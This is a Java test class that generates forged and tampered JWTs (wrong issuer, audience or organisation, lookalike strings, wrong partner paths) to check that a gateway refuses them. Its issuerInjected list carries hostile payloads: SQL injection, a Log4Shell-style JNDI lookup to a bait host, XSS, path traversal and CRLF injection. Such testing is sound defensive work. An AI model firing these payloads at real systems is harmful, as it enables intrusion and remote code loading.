package org.launchgate.example.attack.family;

import static org.launchgate.example.attack.trial.Family.PARTNER;
import static org.launchgate.example.attack.trial.Need.AUDIENCE;
import static org.launchgate.example.attack.trial.Need.ISSUER;
import static org.launchgate.example.attack.trial.Need.ISSUER_RULE;
import static org.launchgate.example.attack.trial.Need.KEY;
import static org.launchgate.example.attack.trial.Need.NO_AUDIENCE;
import static org.launchgate.example.attack.trial.Need.ORGANIZATIONS;
import static org.launchgate.example.attack.trial.Need.OTHER_KEY;

import java.io.IOException;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.launchgate.example.attack.token.Json;
import org.launchgate.example.attack.trial.Attack;
import org.launchgate.example.attack.trial.Outcome;
import org.launchgate.example.attack.trial.Scene;
import org.launchgate.example.attack.trial.Setup;
import org.launchgate.example.attack.wire.Request;

/** A genuine token of another sender, for another receiver, or beyond what was agreed. */
public final class PartnerAttacks {
  private static final String ISS = "RFC 8725 3.8; V-19";
  private static final String AUD = "RFC 8725 3.9; V-21";

  private PartnerAttacks() {}

  /** All of them. */
  public static List<Attack> all() {
    return List.of(
        issuerMissing(),
        issuerOther(),
        issuerAlmost(),
        issuerForm(),
        issuerInjected(),
        issuerLong(),
        issuerUnasked(),
        otherPartner(),
        audienceMissing(),
        audienceOther(),
        audienceAlmost(),
        audienceForm(),
        audienceUnasked(),
        organization(),
        organizationAlmost(),
        partnerPath());
  }

  private static Attack attack(String id, String description, String source) {
    return Attack.of(PARTNER, id, description, source).needs(KEY);
  }

  private static String with(Scene scene, String claim, Object value) {
    return scene.signed(scene.draft().claim(claim, value));
  }

  private static Attack issuerMissing() {
    return attack("iss-absent", "iss is left out", ISS)
        .needs(ISSUER_RULE)
        .token("left out", s -> s.signed(s.draft().without("iss")))
        .token("empty", s -> with(s, "iss", ""))
        .token("null", s -> with(s, "iss", Json.NULL))
        .token(
            "in the header",
            s -> s.signed(s.draft().without("iss").header("iss", s.setup().issuer().orElse(""))))
        .token(
            "in another case",
            s -> s.signed(s.draft().without("iss").claim("ISS", s.setup().issuer().orElse(""))));
  }

  private static Attack issuerOther() {
    return attack("iss-other", "iss is nobody known", ISS)
        .needs(ISSUER_RULE)
        .tokens(
            List.of("nobody", "*", "null", "default", "http://", "%"),
            (s, iss) -> with(s, "iss", iss));
  }

  private static Attack issuerAlmost() {
    return attack("iss-almost", "iss is almost the partner's", ISS)
        .needs(ISSUER_RULE, ISSUER)
        .<String>tokensOf(
            setup -> almost(setup.issuer().orElse("")), (s, iss) -> with(s, "iss", iss));
  }

  /** What a careless comparison takes for the same. */
  private static List<String> almost(String text) {
    String start = text.substring(0, text.length() - 1);
    char last = text.charAt(text.length() - 1);
    return Stream.of(
            text + " ",
            " " + text,
            text + "/",
            text + "\0",
            text + "\n",
            text + ".",
            text + "1",
            start,
            text + ".example",
            "x" + text,
            text.toUpperCase(Locale.ROOT),
            text.toLowerCase(Locale.ROOT),
            start + (char) (last + 0xFEE0),
            text + "\u200b",
            "\ufeff" + text,
            text + "\u0301",
            text.replace("e", "\u0435"),
            text.replace(" ", "\u00a0"),
            text.replace("://", ":///"),
            text + "#",
            text + "?x")
        .filter(other -> !other.equals(text))
        .distinct()
        .toList();
  }

  private static Attack issuerForm() {
    return attack("iss-type", "iss is no text", "RFC 7519 4.1.1; V-19")
        .tokens(List.of(1, true, List.of(), Map.of()), (s, iss) -> with(s, "iss", iss))
        .<List<String>>tokensOf(
            setup ->
                List.of(
                    List.of(setup.issuer().orElse("x")), List.of("x", setup.issuer().orElse("x"))),
            (s, iss) -> with(s, "iss", iss))
        .token("an object", s -> with(s, "iss", Map.of("iss", s.setup().issuer().orElse("x"))));
  }

  private static Attack issuerInjected() {
    return attack("iss-injected", "iss is more than a name", "RFC 8725 3.10; V-16")
        .tokens(
            List.of(
                "' OR '1'='1",
                "x' UNION SELECT 'Demo XIS' -- ",
                "../../demo-xis",
                "${env:PATH}",
                "*)(iss=*",
                "{{7*7}}",
                "<script>alert(1)</script>",
                "a\r\nX: y"),
            (s, iss) -> with(s, "iss", iss))
        .tokens(
            List.of("http://%s", "https://%s/", "${jndi:ldap://%s/a}"),
            (s, frame) -> with(s, "iss", frame.formatted(s.bait())))
        .variant("nobody came", Scene::undisturbed);
  }

  private static Attack issuerLong() {
    return attack("iss-long", "iss is very long", "V-16")
        .tokens(List.of(256, 2000, 6000), (s, length) -> with(s, "iss", "i".repeat(length)));
  }

  private static Attack issuerUnasked() {
    return attack("iss-unasked", "an iss where none was agreed", "V-19")
        .needs(NO_AUDIENCE)
        .<String>tokensOf(
            setup -> setup.profile().hasIssuer() ? List.of() : List.of("nobody", "Demo XIS", " "),
            (s, iss) -> with(s, "iss", iss));
  }

  private static Attack otherPartner() {
    return attack("iss-other-partner", "iss is another partner's, the key this one's", ISS)
        .needs(OTHER_KEY)
        .token("with this one's kid", s -> with(s, "iss", s.setup().otherIssuer().orElse("other")))
        .token(
            "with the other's kid",
            s ->
                s.signed(
                    s.draft()
                        .claim("iss", s.setup().otherIssuer().orElse("other"))
                        .header("kid", s.setup().otherKeyId().orElse("other"))));
  }

  private static Attack audienceMissing() {
    return attack("aud-absent", "aud is left out", AUD)
        .needs(AUDIENCE)
        .token("left out", s -> s.signed(s.draft().without("aud")))
        .token(
            "in the header",
            s -> s.signed(s.draft().without("aud").header("aud", s.setup().audience().orElse(""))))
        .tokens(List.of("", List.of(), Json.NULL, List.of("")), (s, aud) -> with(s, "aud", aud));
  }

  private static Attack audienceOther() {
    return attack("aud-other", "aud is another receiver", AUD)
        .needs(AUDIENCE)
        .tokens(
            List.of(
                "other.example.com",
                "*",
                "null",
                List.of("a", "b"),
                List.of("other.example.com"),
                "https://"),
            (s, aud) -> with(s, "aud", aud));
  }

  private static Attack audienceAlmost() {
    return attack("aud-almost", "aud is almost this receiver", AUD)
        .needs(AUDIENCE)
        .<String>tokensOf(
            setup -> almost(setup.audience().orElse("x")), (s, aud) -> with(s, "aud", aud))
        .token("two in one text", s -> with(s, "aud", s.setup().audience().orElse("") + " other"))
        .token("two by a comma", s -> with(s, "aud", s.setup().audience().orElse("") + ",other"));
  }

  private static Attack audienceForm() {
    return attack("aud-type", "aud is neither a text nor a list of texts", "CVE-2020-26160; V-21")
        .needs(AUDIENCE)
        .tokens(
            List.of(1, true, Map.of(), List.of(1), List.of(Json.NULL)),
            (s, aud) -> with(s, "aud", aud))
        .<Object>tokensOf(PartnerAttacks::misplaced, (s, aud) -> with(s, "aud", aud));
  }

  /** Audiences that hold the right one in the wrong place. */
  private static List<Object> misplaced(Setup setup) {
    String ours = setup.audience().orElse("x");
    return List.of(
        List.of(List.of(ours)), Map.of("aud", ours), List.of(ours, 1), Map.of(ours, true));
  }

  private static Attack audienceUnasked() {
    return attack("aud-unasked", "an aud where none was agreed", AUD)
        .needs(NO_AUDIENCE)
        .tokens(
            List.of("other.example.com", "", List.of(), List.of("a", "b"), Json.NULL, 1),
            (s, aud) -> with(s, "aud", aud));
  }

  private static Attack organization() {
    return attack("org-other", "an organisation that was not agreed", "design, partner policy")
        .needs(ORGANIZATIONS)
        .tokens(
            List.of("05029998", "*", "0", "null", "' OR '1'='1", "%"),
            (s, org) -> with(s, s.profile().organization(), org));
  }

  private static Attack organizationAlmost() {
    return attack("org-almost", "almost the organisation that was agreed", "design, partner policy")
        .needs(ORGANIZATIONS)
        .<String>tokensOf(
            setup -> almost(organizationOf(setup)),
            (s, org) -> with(s, s.profile().organization(), org));
  }

  private static String organizationOf(Setup setup) {
    String name = setup.profile().organization();
    Object value = setup.claims().getOrDefault(name, setup.profile().claims().get(name));
    return String.valueOf(value);
  }

  private static Attack partnerPath() {
    return attack(
            "partner-path",
            "a good token at another partner's address",
            "design, steps 1 and 3; V-19")
        .variant("nobody's", s -> at(s, "/nobody"))
        .variant("none", s -> at(s, "/"))
        .variant("two steps down", s -> at(s, "/a/b"))
        .variant("a dot", s -> at(s, "/%2e%2e%2e"))
        .variant("a NUL", s -> at(s, "/x%00"))
        .variant("a star", s -> at(s, "/*"));
  }

  private static Outcome at(Scene scene, String below) throws IOException {
    String token = scene.genuine();
    Request usual = scene.carry(token);
    String path = scene.setup().path();
    return scene.refused(
        usual.withTarget(path + below + usual.target().substring(path.length())), token);
  }
}
